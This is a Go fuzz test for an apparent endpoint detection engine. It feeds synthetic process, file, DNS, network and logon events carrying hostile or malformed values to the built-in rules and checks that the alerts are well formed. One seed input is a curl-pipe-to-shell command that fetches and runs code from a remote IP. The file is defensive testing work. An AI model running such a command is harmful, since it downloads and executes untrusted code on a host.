// SPDX-License-Identifier: Apache-2.0

package detect

import (
	"strings"
	"testing"

	"github.com/picket-edr/picket/content"
	"github.com/picket-edr/picket/event"
)

func repeat(s string, n int) string { return strings.Repeat(s, n) }

func batchOf(blocks ...*event.Block) *event.Batch {
	return &event.Batch{BootID: "boot", Seq: 1, Blocks: blocks}
}

// FuzzFeed runs all built-in rules over rows with hostile values.
func FuzzFeed(f *testing.F) {
	rules, err := content.Rules()
	if err != nil {
		f.Fatal(err)
	}
	e := engine(f, rules...)
	f.Add("/tmp/.x", `sh -c "curl http://203.0.113.7/a | sh"`, "/usr/bin/bash", "ProcessCreated", int64(1), int64(2), `{"Lost":{"a":1}}`)
	f.Add("/memfd:a", "\xff\x00[k]", "", "SensorLoss", int64(-1), int64(1)<<62, "{")
	f.Add("/a/.../b", repeat("=", 300), strings.Repeat("0", 32), "DnsQueryRequest", int64(0), int64(0), "")
	f.Fuzz(func(t *testing.T, path, command, other, action string, report, when int64, more string) {
		at := event.Time(when)
		b := batch(
			&event.DeviceProcessEvents{Timestamp: at, ReportId: report, ActionType: action, FolderPath: path, ProcessCommandLine: command, ProcessUniqueId: other, InitiatingProcessUniqueId: path,
				InitiatingProcessParentUniqueId: other, InitiatingProcessFolderPath: other, InitiatingProcessCommandLine: command, ProcessEnvironment: more, IsFileless: report%2 == 0, EvidenceLoss: when},
			&event.DeviceProcessEvents{Timestamp: at, ReportId: report, ActionType: "ProcessCreated", FolderPath: path, ProcessCommandLine: command, ProcessUniqueId: id(int(report & 0xff)), InitiatingProcessUniqueId: id(int(when & 0xff))},
			&event.DeviceFileEvents{Timestamp: at, ReportId: when, ActionType: "FileModified", FolderPath: path, FileName: other, InitiatingProcessFolderPath: command},
			&event.DeviceEvents{Timestamp: at, ReportId: report, ActionType: action, DnsQueryName: command, AdditionalFields: more},
			&event.DeviceEvents{Timestamp: at, ReportId: report, ActionType: "SensorLoss", AdditionalFields: more},
			&event.DeviceNetworkEvents{Timestamp: at, ReportId: report, ActionType: "ConnectionSuccess", RemoteIP: other, RemotePort: when, InitiatingProcessFolderPath: path, Protocol: "Tcp"},
			&event.DeviceLogonEvents{Timestamp: at, ReportId: report, ActionType: "LogonFailed", AccountName: "root", RemoteIPType: "Public", RemoteIP: other},
		)
		env := envelope("d")
		env.Gap, env.ClockOffset = uint64(when), report
		alerts, err := e.Feed(env, b)
		if err != nil {
			t.Fatal(err)
		}
		for _, a := range alerts {
			if len(a.ID) != 32 || a.Count < 1 || len(a.Evidence) == 0 || a.EvidenceLost < 0 || a.FirstActivity.After(a.LastActivity) || a.FirstActivity.IsZero() {
				t.Fatalf("%+v", a)
			}
		}
	})
}
